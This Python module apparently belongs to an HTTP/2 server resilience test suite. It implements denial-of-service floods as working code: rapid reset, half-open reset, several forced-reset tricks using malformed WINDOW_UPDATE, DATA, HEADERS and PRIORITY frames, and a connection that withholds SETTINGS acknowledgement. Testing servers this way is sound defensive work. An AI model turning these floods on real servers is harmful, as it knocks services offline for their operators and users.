"""Attacks by streams: opened and reset, reset by the host, or never ended."""

import struct

import h2
from attack import Bounds, attack, flood, hold
from attacks.connections import GET_TIME
from attacks.floods import SILENCED


def reset_after(*frames, body=True):
    """Bursts of calls that each provoke the end of their stream: `frames` are made of its number."""
    def burst(connection):
        start = h2.whole_call if body else h2.open_call
        return b"".join(start(stream, GET_TIME) + b"".join(make(stream) for make in frames)
                        for stream in connection.streams(100))
    return burst


@attack(bounds=SILENCED)
def rapid_reset(target, until):
    """calls that are reset at once"""
    return flood(target, until, reset_after(h2.reset))


@attack(bounds=SILENCED)
def rapid_reset_half_open(target, until):
    """calls without their message that are reset at once"""
    return flood(target, until, reset_after(h2.reset, body=False))


@attack(bounds=SILENCED)
def made_you_reset_window(target, until):
    """calls, each with a WINDOW_UPDATE of nothing: the host has to reset the stream"""
    return flood(target, until, reset_after(lambda stream: h2.window_update(stream, 0)))


@attack(bounds=SILENCED)
def made_you_reset_overflow(target, until):
    """calls, each with a WINDOW_UPDATE beyond all windows"""
    return flood(target, until, reset_after(lambda stream: h2.window_update(stream, 0x7FFFFFFF)))


@attack(bounds=SILENCED)
def made_you_reset_data(target, until):
    """calls, each with DATA after their end"""
    return flood(target, until, reset_after(lambda stream: h2.frame(h2.DATA, 0, stream, b"x")))


@attack(bounds=SILENCED)
def made_you_reset_headers(target, until):
    """calls, each with HEADERS after their end"""
    return flood(target, until, reset_after(lambda stream: h2.open_call(stream, GET_TIME)))


@attack(bounds=SILENCED)
def made_you_reset_priority(target, until):
    """calls, each with a PRIORITY that depends on itself"""
    return flood(target, until, reset_after(
        lambda stream: h2.frame(h2.PRIORITY, 0, stream, struct.pack(">IB", stream, 1))))


@attack(bounds=Bounds(growth_mib=700, answered=0.0, probed=0.0))
def unacknowledged_settings(target, until):
    """20,000 calls whose message never comes, on one connection that acknowledges no SETTINGS"""
    connection = h2.Connection(target.data).hello(until, acknowledge=False)
    opened = 0
    for _ in until.times(200):
        if not connection.send(until, reset_after(body=False)(connection)):
            break
        opened += 100
    hold(until, [connection])
    return {"calls": opened}
